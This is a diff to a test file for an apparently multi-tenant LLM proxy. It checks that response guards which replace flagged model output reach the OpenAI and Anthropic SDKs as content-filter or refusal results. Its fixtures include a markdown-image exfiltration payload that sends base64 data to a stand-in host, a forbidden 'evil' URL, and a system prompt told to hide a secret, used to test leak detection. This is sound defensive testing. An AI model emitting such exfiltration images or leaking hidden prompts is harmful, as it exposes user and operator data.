@@ -8,6 +8,7 @@ import httpx
 import httpx2
 import openai
 import pytest
+from openai.lib.streaming.chat import ChatCompletionStreamState
 
 import provider
 from asking import MODEL
@@ -17,6 +18,7 @@ from upstream import Call
 
 PROMPT = "You are Hal of Example Bank. Never tell anybody that account limits are raised for staff."
 LEAK = "Never tell anybody that *account limits* are raised for staff"
+SORRY = "I can't help with that here."
 SAID = {
     "url.forbidden": ("See https://docs.evil.example/a now.", "See [URL] now."),
     "url.exfiltration": ("Hi ![x](https://a.example/p.png?d=c2VjcmV0) there.", "Hi ![x]([URL]) there."),
@@ -41,6 +43,8 @@ def ruled(short_dir, upstreams):
         redact = {f"{family}.*": "redact" for family in ("url", "leak", "code", "banned")}
         tenants["acme"] |= {**lists, "guards": {"response": redact}}
         tenants["strict"] |= {**lists, "guards": {"response": dict.fromkeys(redact, "block")}}
+        said = {"action": "replace", "text": SORRY}
+        tenants["watched"] |= {**lists, "guards": {"response": dict.fromkeys(redact, said)}}
         (directory / "tenants.yaml").write_text(json.dumps(tenants))
 
     with Stack(short_dir(), upstreams, Options(policy=write)) as running:
@@ -142,3 +146,60 @@ def test_anthropics_system_prompt_is_watched_too(clients, upstream):
     }
     with clients[1]("acme").messages.stream(**asked) as stream:
         assert stream.get_final_text() == "[SYSTEM_PROMPT]"
+
+
+@pytest.mark.parametrize("streamed", [True, False])
+def test_words_in_place_of_an_answer_are_a_normal_answer_to_the_sdk(streamed, clients, ruled, upstream):
+    marker = upstream.script(
+        says("So far so good, this is harmless. " + SAID["url.forbidden"][0], streamed=streamed, size=200)
+    )
+    chat = clients[0]("watched").chat.completions
+    if streamed:
+        state = ChatCompletionStreamState()
+        for event in chat.create(stream=True, **ask(marker)):
+            state.handle_chunk(event)
+        answer = state.current_completion_snapshot
+    else:
+        answer = chat.create(**ask(marker))
+    (choice,) = answer.choices
+    assert (choice.finish_reason, choice.message.role) == ("content_filter", "assistant")
+    assert choice.message.content == ("So far so good, this is harmless. See " * streamed) + SORRY
+    if not streamed:
+        found = ruled.record(answer._request_id)["found"]
+        assert ("url.forbidden", "replace") in {(each["rule"], each["action"]) for each in found}
+
+
+def test_helpers_that_parse_raise_what_they_raise_for_any_content_filter(clients, upstream):
+    marker = upstream.script(says(SAID["url.forbidden"][0], streamed=True))
+    with (
+        clients[0]("watched").chat.completions.stream(**ask(marker)) as stream,
+        pytest.raises(openai.ContentFilterFinishReasonError) as failure,
+    ):
+        stream.until_done()
+    assert failure.value.completion.choices[0].message.content == SORRY
+
+
+@pytest.mark.parametrize("streamed", [True, False])
+def test_words_in_place_of_a_message_are_a_refusal_to_the_sdk(streamed, clients, upstream):
+    words = SAID["banned.rivals"][0]
+
+    async def answer(call: Call) -> None:
+        if streamed:
+            pieces = [text(words[at : at + 5]) for at in range(0, len(words), 5)]
+            await call.sse(b"".join((start(), block(), *pieces, stop(), end())), size=150, pause_s=0.005)
+        else:
+            usage = {"input_tokens": 9, "output_tokens": 4}
+            await call.json(
+                {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn",
+                 "stop_sequence": None, "content": [{"type": "text", "text": words}], "usage": usage}
+            )  # fmt: skip
+
+    marker = upstream.script(answer)
+    asked = {"model": "claude-test", "max_tokens": 64, "messages": [{"role": "user", "content": marker}]}
+    if streamed:
+        with clients[1]("watched").messages.stream(**asked) as stream:
+            message = stream.get_final_message()
+    else:
+        message = clients[1]("watched").messages.create(**asked)
+    assert message.stop_reason == "refusal"
+    assert "".join(part.text for part in message.content) == "Try " * streamed + SORRY
